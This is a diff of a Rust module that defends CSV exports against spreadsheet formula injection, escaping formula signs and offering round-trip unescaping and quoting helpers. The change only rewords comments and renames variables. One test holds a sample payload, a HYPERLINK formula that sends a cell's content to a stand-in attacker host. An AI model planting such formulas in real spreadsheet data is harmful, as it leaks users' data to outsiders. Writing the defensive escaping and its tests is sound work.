@@ -1,43 +1,52 @@
-//! The one place that writes a cell of a CSV file, and that reads one of ours back.
+//! Writes the cells of CSV files, and reads the cells that it wrote.
 //!
-//! A spreadsheet runs a cell as a formula if it begins with `=`, `+`, `-` or `@`, some also if these are full-width signs. It also splits a file at another
-//! separator than the one that was meant, and then ignores quotation marks in the middle of what it takes for a cell. So an apostrophe is put before each such
-//! sign that stands at the beginning of a text, or behind a semicolon, a tab or the end of a line in it, also after white space and quotation marks.
-//! [`unescape_formulas`] takes exactly these apostrophes out again.
+//! A spreadsheet runs a cell as a formula if it begins with `=`, `+`, `-` or `@`. Some spreadsheets
+//! also accept the full-width signs. A spreadsheet may also split a file at another separator than
+//! the intended one. Then it ignores quotation marks in the middle of a cell.
+//!
+//! So this module puts an apostrophe before each of these signs at the beginning of a text, or
+//! after a semicolon, a tab or a line end. White space and quotation marks may precede the sign.
+//! [`unescape_formulas`] removes exactly these apostrophes.
+//!
+//! No other code writes cells of CSV files.
 
 use std::{borrow::Cow, iter};
 
-/// What spreadsheets put before the text of a CSV file in UTF-8, and some need to read it as UTF-8.
+/// The byte order mark at the beginning of a CSV file in UTF-8.
+///
+/// Spreadsheets write it, and some need it to read the file as UTF-8.
 pub const BYTE_ORDER_MARK: &str = "\u{feff}";
 
-/// Makes a text harmless for spreadsheets. [`unescape_formulas`] gives the same text back.
+/// Makes a text harmless for spreadsheets. [`unescape_formulas`] returns the original text.
 #[must_use]
 pub fn escape_formulas(text: &str) -> Cow<'_, str> {
     if !text.contains(|c| is_sign(c) || is_break(c)) {
         return Cow::Borrowed(text);
     }
     let harmful = find_formula_starts(text);
-    let mut guarded = String::with_capacity(text.len() + 1);
+    let mut escaped = String::with_capacity(text.len() + 1);
     for (c, is_harmful) in text.chars().zip(harmful) {
         if is_harmful {
-            guarded.push('\'');
+            escaped.push('\'');
         }
-        guarded.push(c);
+        escaped.push(c);
     }
-    Cow::Owned(guarded)
+    Cow::Owned(escaped)
 }
 
-/// The text that [`escape_formulas`] made a cell of. A text that it would not have made stays as it is.
+/// Returns the text from which [`escape_formulas`] made a cell.
+///
+/// A cell that [`escape_formulas`] does not produce is returned unchanged.
 #[must_use]
 pub fn unescape_formulas(cell: &str) -> Cow<'_, str> {
     if !cell.contains('\'') {
         return Cow::Borrowed(cell);
     }
-    // An apostrophe is a guard if what is behind it would need one.
+    // An apostrophe is an escape if the text after it would need one.
     let harmful = find_formula_starts(cell);
-    let behind = cell.chars().skip(1).map(Some).chain(iter::once(None));
+    let following = cell.chars().skip(1).map(Some).chain(iter::once(None));
     let mut text = String::with_capacity(cell.len());
-    for ((c, next), is_harmful) in cell.chars().zip(behind).zip(harmful) {
+    for ((c, next), is_harmful) in cell.chars().zip(following).zip(harmful) {
         if !(c == '\'' && is_harmful && next.is_some()) {
             text.push(c);
         }
@@ -45,26 +54,28 @@ pub fn unescape_formulas(cell: &str) -> Cow<'_, str> {
     Cow::Owned(text)
 }
 
-/// A text from outside as a cell: harmless, in quotation marks (RFC 4180).
+/// Writes a text from outside as a cell: harmless, in quotation marks (RFC 4180).
 #[must_use]
 pub fn quoted_cell(text: &str) -> String {
     format!("\"{}\"", escape_formulas(text).replace('"', "\"\""))
 }
 
-/// A text from outside as a cell: harmless, in quotation marks if it needs them.
+/// Writes a text from outside as a cell: harmless, in quotation marks if it needs them.
 #[must_use]
 pub fn cell(text: &str) -> Cow<'_, str> {
-    let guarded = escape_formulas(text);
-    let needs_marks = guarded.contains([',', ';', '|', '"', '\t', '\r', '\n']) || guarded.trim() != guarded;
-    if needs_marks { Cow::Owned(quoted_cell(text)) } else { guarded }
+    let escaped = escape_formulas(text);
+    let needs_marks = escaped.contains([',', ';', '|', '"', '\t', '\r', '\n']) || escaped.trim() != escaped;
+    if needs_marks { Cow::Owned(quoted_cell(text)) } else { escaped }
 }
 
-/// A row without its end. The cells are as [`quoted_cell`] and [`cell`] write them; identifiers and numbers need neither.
+/// Joins cells to a row without a line end.
+///
+/// The cells are written by [`quoted_cell`] or [`cell`]. Identifiers and numbers need neither.
 #[must_use]
 pub fn row<I: IntoIterator<Item: AsRef<str>>>(cells: I) -> String {
     let mut row = String::new();
-    for (place, cell) in cells.into_iter().enumerate() {
-        if place > 0 {
+    for (index, cell) in cells.into_iter().enumerate() {
+        if index > 0 {
             row.push(',');
         }
         row.push_str(cell.as_ref());
@@ -72,17 +83,20 @@ pub fn row<I: IntoIterator<Item: AsRef<str>>>(cells: I) -> String {
     row
 }
 
-/// For each character whether a spreadsheet could take it for the beginning of a formula. One pass from the end: texts are as long as they like.
+/// For each character, whether a spreadsheet could take it for the beginning of a formula.
+///
+/// One pass from the end, because the length of a text has no limit.
 fn find_formula_starts(text: &str) -> Vec<bool> {
     let characters: Vec<char> = text.chars().collect();
     let mut harmful = vec![false; characters.len()];
-    // Of the character behind: whether only what is skipped stands between it and a sign, or between it and a break.
+    // Whether only skipped characters stand between the next character and a sign, or between the
+    // next character and a break.
     let (mut before_sign, mut before_break) = (false, false);
-    for (place, is_harmful) in harmful.iter_mut().enumerate().rev() {
-        let Some(&c) = characters.get(place) else { continue };
+    for (index, is_harmful) in harmful.iter_mut().enumerate().rev() {
+        let Some(&c) = characters.get(index) else { continue };
         before_sign = is_sign(c) || (before_sign && is_skipped(c));
         before_break = matches!(c, '\t' | '\r' | '\n') || (before_break && matches!(c, '\'' | '"'));
-        let previous = place.checked_sub(1).and_then(|previous| characters.get(previous));
+        let previous = index.checked_sub(1).and_then(|previous| characters.get(previous));
         *is_harmful = match previous {
             None => before_sign || before_break,
             Some(previous) => before_sign && is_break(*previous),
@@ -91,24 +105,24 @@ fn find_formula_starts(text: &str) -> Vec<bool> {
     harmful
 }
 
-/// Whether a formula begins with this sign: in ASCII, full-width, or small.
+/// Whether a formula can begin with this character: an ASCII, full-width or small sign.
 fn is_sign(c: char) -> bool {
     matches!(
         c,
         '=' | '+' | '-' | '@'
             | '\u{ff1d}' | '\u{ff0b}' | '\u{ff0d}' | '\u{ff20}'
             | '\u{fe66}' | '\u{fe62}' | '\u{fe63}' | '\u{fe6b}'
-            // The sign that is read as minus.
+            // The typographic minus sign, which is read as a minus.
             | '\u{2212}'
     )
 }
 
-/// Whether a spreadsheet may begin another cell or row behind it, whatever stands between the cells of the file.
+/// Whether a spreadsheet may begin another cell or row after this character, with any separator.
 fn is_break(c: char) -> bool {
     matches!(c, ';' | '\t' | '\r' | '\n')
 }
 
-/// Whether a spreadsheet may skip it before a sign.
+/// Whether a spreadsheet may skip this character before a sign.
 fn is_skipped(c: char) -> bool {
     matches!(c, '\'' | '"')
         || c.is_whitespace()
@@ -123,7 +137,7 @@ mod tests {
     use super::*;
 
     #[test]
-    fn guards_every_beginning_of_a_formula() {
+    fn escapes_every_formula_start() {
         for (text, expected) in [
             (
                 "=HYPERLINK(\"http://evil.example/?\"&B2,\"x\")",
@@ -153,7 +167,7 @@ mod tests {
     }
 
     #[test]
-    fn texts_get_quotation_marks_where_they_need_them() {
+    fn quotes_cells_only_where_needed() {
         assert_eq!(cell("mailto:ama@example.org"), "mailto:ama@example.org");
         assert_eq!(cell("Mensah, Ama"), "\"Mensah, Ama\"");
         assert_eq!(cell("=\"a\""), "\"'=\"\"a\"\"\"");
@@ -169,19 +183,19 @@ mod tests {
 
     proptest! {
         #[test]
-        fn a_guarded_text_is_read_back(text in "[\u{feff}\u{ff1d}=+@;,'\"\t\r\n a-c-]{0,24}") {
-            let guarded = escape_formulas(&text);
-            prop_assert_eq!(unescape_formulas(&guarded), text.as_str());
-            for piece in guarded.split([';', '\t', '\r', '\n']) {
+        fn escaped_text_round_trips(text in "[\u{feff}\u{ff1d}=+@;,'\"\t\r\n a-c-]{0,24}") {
+            let escaped = escape_formulas(&text);
+            prop_assert_eq!(unescape_formulas(&escaped), text.as_str());
+            for piece in escaped.split([';', '\t', '\r', '\n']) {
                 let first = piece.trim_start_matches(|c: char| c.is_whitespace() || c == '"' || c == '\u{feff}').chars().next();
-                prop_assert!(!first.is_some_and(is_sign), "{:?}", guarded);
+                prop_assert!(!first.is_some_and(is_sign), "{:?}", escaped);
             }
         }
 
         #[test]
-        fn any_text_is_read_back(text in "\\PC{0,40}") {
-            let guarded = escape_formulas(&text);
-            prop_assert_eq!(unescape_formulas(&guarded), text.as_str());
+        fn any_text_round_trips(text in "\\PC{0,40}") {
+            let escaped = escape_formulas(&text);
+            prop_assert_eq!(unescape_formulas(&escaped), text.as_str());
         }
     }
 }
